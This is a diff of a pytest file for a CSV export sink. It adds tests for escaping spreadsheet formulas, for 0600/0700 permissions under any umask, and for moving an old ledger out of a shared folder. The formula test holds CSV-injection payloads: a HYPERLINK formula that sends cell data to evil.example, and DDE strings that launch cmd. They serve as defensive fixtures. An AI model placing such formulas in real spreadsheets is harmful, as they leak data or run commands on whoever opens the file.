@@ -3,15 +3,27 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import json
+import os
 import shutil
+import stat
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
 
-from fonzipd.records import Record
+from fonzipd.records import Person, Record
 from fonzipd.sink import PermanentSinkError, SinkConfigError, TransientSinkError
-from fonzipd.sinks.csv import COLUMNS, LEDGER_NAME, CSVOptions, CSVSink, relative_path
+from fonzipd.sinks.csv import (
+    COLUMNS,
+    LOCK_NAME,
+    OLD_LEDGER_NAME,
+    CSVOptions,
+    CSVSink,
+    ledger_path,
+    relative_path,
+)
 from fonzipd.testing import check_sink, context_for_tests, sample_records
 
 
@@ -120,15 +132,16 @@ async def test_rows_written_before_a_crash_in_the_ledger_commit_are_not_duplicat
     await _write_all(_sink(tmp_path, out), first)
     saved = tmp_path / "ledger-before"
     saved.mkdir()
-    for f in out.glob(LEDGER_NAME + "*"):
+    ledger = ledger_path(tmp_path, out)
+    for f in ledger.parent.glob(ledger.name + "*"):
         shutil.copy2(f, saved / f.name)
     await _write_all(_sink(tmp_path, out), second)
     # The state a kill -9 after the CSV fsync and before the ledger commit leaves:
     # the rows of `second` are in the files, the ledger knows only `first`.
-    for f in out.glob(LEDGER_NAME + "*"):
+    for f in ledger.parent.glob(ledger.name + "*"):
         f.unlink()
     for f in saved.iterdir():
-        shutil.copy2(f, out / f.name)
+        shutil.copy2(f, ledger.parent / f.name)
     torn = _rows(out)
     assert len(torn) == len(recs)
 
@@ -205,3 +218,109 @@ async def test_two_sinks_on_one_directory_are_refused(tmp_path: Path) -> None:
             await _sink(tmp_path, out).open()
     finally:
         await first.close()
+
+
+# -- a hostile donor, a careless umask, a shared folder ----------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_formula_cells_are_neutralized_and_amounts_stay_numbers(tmp_path: Path) -> None:
+    out = tmp_path / "csv"
+    base = sample_records(1)[0]
+    hostile = [
+        dataclasses.replace(
+            base,
+            fonzip_id=base.fonzip_id + i,
+            amount=Decimal("-12.50"),
+            currency=formula,
+            person=Person(name=formula, email=formula, phone=formula, fonzip_user_id=-7),
+            data={"name": formula},
+        )
+        for i, formula in enumerate(FORMULAS)
+    ]
+    phone = dataclasses.replace(
+        base, fonzip_id=base.fonzip_id + 99, person=Person(name="Ayşe", phone="+90 555 111 22 33")
+    )
+    await _write_all(_sink(tmp_path, out, include_data=True), [*hostile, phone])
+    rows = {row["fonzip_id"]: row for row in _rows(out)}
+    for record, formula in zip(hostile, FORMULAS, strict=True):
+        row = rows[str(record.fonzip_id)]
+        for column in ("person_name", "person_email", "person_phone", "currency"):
+            assert row[column] == "'" + formula, column
+        assert json.loads(row["data"]) == {"name": formula}  # starts with '{': left alone
+        assert row["amount"] == "-12.50"  # a real amount: still a number
+        assert row["fonzip_user_id"] == "-7"
+    # An Excel-minded reader sees text, never a formula, in every cell.
+    for row in rows.values():
+        assert not any(
+            v.startswith(("=", "+", "-", "@", "\t", "\r"))
+            for k, v in row.items()
+            if k not in ("amount", "fonzip_user_id")
+        )
+    assert rows[str(phone.fonzip_id)]["person_phone"] == "'+90 555 111 22 33"
+    assert rows[str(phone.fonzip_id)]["person_name"] == "Ayşe"
+
+
+@pytest.mark.parametrize("umask", [0o022, 0o000])
+async def test_files_are_0600_and_directories_0700_whatever_the_umask(
+    tmp_path: Path, umask: int
+) -> None:
+    out = tmp_path / "shared" / "with" / "accountant"
+    state = tmp_path / "state"
+    old = os.umask(umask)
+    try:
+        sink = CSVSink(CSVOptions(directory=out), context_for_tests(state))
+        await _write_all(sink, sample_records(6))
+    finally:
+        os.umask(old)
+    created = [out, out.parent, out.parent.parent, *out.rglob("*")]
+    ledger = ledger_path(state, out)
+    created += [ledger.parent, *ledger.parent.glob("*")]
+    assert any(p.suffix == ".csv" for p in created)
+    for path in created:
+        mode = stat.S_IMODE(path.stat().st_mode)
+        assert mode == (0o700 if path.is_dir() else 0o600), f"{path}: {oct(mode)}"
+    # The shared folder holds the CSV files and an empty lock, no ledger.
+    assert {p.name for p in out.iterdir() if p.is_file()} == {LOCK_NAME}
+    assert (out / LOCK_NAME).stat().st_size == 0
+
+
+async def test_an_old_ledger_in_the_folder_is_moved_out_and_still_counts(tmp_path: Path) -> None:
+    out = tmp_path / "csv"
+    recs = sample_records(8)
+    await _write_all(_sink(tmp_path, out), recs[:5])
+    # The layout of earlier versions: the ledger (and its WAL) inside the CSV folder.
+    ledger = ledger_path(tmp_path, out)
+    for f in ledger.parent.glob(ledger.name + "*"):
+        f.rename(out / f.name.replace(ledger.name, OLD_LEDGER_NAME))
+    assert (out / OLD_LEDGER_NAME).exists()
+    before = _rows(out)
+
+    await _write_all(_sink(tmp_path, out), recs)  # all eight again, as after a crash
+    assert not list(out.glob(OLD_LEDGER_NAME + "*"))
+    assert stat.S_IMODE(ledger.stat().st_mode) == 0o600
+    keys = [row["key"] for row in _rows(out)]
+    assert sorted(keys) == sorted(r.key for r in recs)  # the first five not written twice
+    assert len(before) == 5
+
+
+async def test_a_move_interrupted_after_the_copy_finishes_at_the_next_open(
+    tmp_path: Path,
+) -> None:
+    out = tmp_path / "csv"
+    recs = sample_records(4)
+    await _write_all(_sink(tmp_path, out), recs)
+    ledger = ledger_path(tmp_path, out)
+    # A crash after the new ledger was renamed into place, before the old was removed.
+    shutil.copy2(ledger, out / OLD_LEDGER_NAME)
+    await _write_all(_sink(tmp_path, out), recs)
+    assert not (out / OLD_LEDGER_NAME).exists()
+    assert len(_rows(out)) == 4
